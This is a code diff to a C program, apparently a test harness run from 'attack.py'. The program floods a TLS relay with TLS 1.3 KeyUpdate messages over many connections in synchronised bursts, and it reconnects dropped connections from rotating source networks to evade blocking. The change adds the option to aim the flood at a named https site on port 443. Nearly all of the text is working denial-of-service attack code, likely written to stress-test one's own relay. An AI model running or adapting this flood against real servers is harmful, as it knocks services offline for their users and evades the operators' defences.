@@ -1,8 +1,9 @@
 /*
- * TLS 1.3 KeyUpdates before any HELLO: key_updates RELAY CONNECTIONS, as long as attack.py says.
- * Each connection says nothing else; one that is ended comes again from another network. A burst
- * for each is made first, and then all are sent together, so that the relay finds them in one turn.
- * At last "rate N", KeyUpdates a second.
+ * TLS 1.3 KeyUpdates before any HELLO: key_updates RELAY CONNECTIONS [NAME], as long as attack.py
+ * says. With NAME they go to the https site of that name, behind the shared tls port. Each
+ * connection says nothing else; one that is ended comes again from another network. A burst for
+ * each is made first, and then all are sent together, so that the relay finds them in one turn. At
+ * last "rate N", KeyUpdates a second.
  */
 #include <arpa/inet.h>
 #include <netinet/in.h>
@@ -14,7 +15,7 @@
 #include <time.h>
 #include <unistd.h>
 
-enum { PORT = 7000, BURST = 1200, CONNECTIONS_MOST = 256, NETWORKS = 5000 };
+enum { AGENTS_PORT = 7000, TLS_PORT = 443, BURST = 1200, CONNECTIONS_MOST = 256, NETWORKS = 5000 };
 
 struct peer {
 	SSL *ssl; /* NULL: not connected */
@@ -23,6 +24,7 @@ struct peer {
 };
 
 static SSL_CTX *context;
+static const char *name; /* NULL: the agents' door */
 static struct sockaddr_in relay = {.sin_family = AF_INET};
 static unsigned opened;
 
@@ -52,6 +54,8 @@ static void begin(struct peer *p)
 	setsockopt(p->fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
 	setsockopt(p->fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
 	SSL_set_fd(p->ssl, p->fd);
+	if (name)
+		SSL_set_tlsext_host_name(p->ssl, name);
 	if (bind(p->fd, (struct sockaddr *)&from, sizeof(from)) < 0 ||
 	    connect(p->fd, (struct sockaddr *)&relay, sizeof(relay)) < 0 ||
 	    SSL_connect(p->ssl) != 1) {
@@ -98,16 +102,18 @@ int main(int argc, char **argv)
 	static struct peer all[CONNECTIONS_MOST];
 	const char *seconds = getenv("ATTACK_S");
 	double length = seconds ? atof(seconds) : 2, begun = now();
-	unsigned count = argc == 3 ? (unsigned)atoi(argv[2]) : 0;
+	unsigned count = argc == 3 || argc == 4 ? (unsigned)atoi(argv[2]) : 0;
 	unsigned long updates = 0;
 
 	if (count == 0 || count > CONNECTIONS_MOST ||
 	    inet_pton(AF_INET, argv[1], &relay.sin_addr) != 1)
 		return 2;
-	relay.sin_port = htons(PORT);
+	name = argv[3];
+	relay.sin_port = htons(name ? TLS_PORT : AGENTS_PORT);
 	context = SSL_CTX_new(TLS_client_method());
 	SSL_CTX_set_min_proto_version(context, TLS1_3_VERSION);
-	SSL_CTX_set_alpn_protos(context, (const unsigned char *)"\013groundnut/1", 12);
+	if (!name)
+		SSL_CTX_set_alpn_protos(context, (const unsigned char *)"\013groundnut/1", 12);
 	puts("ready");
 	fflush(stdout);
 	while (goes_on(begun, length)) {
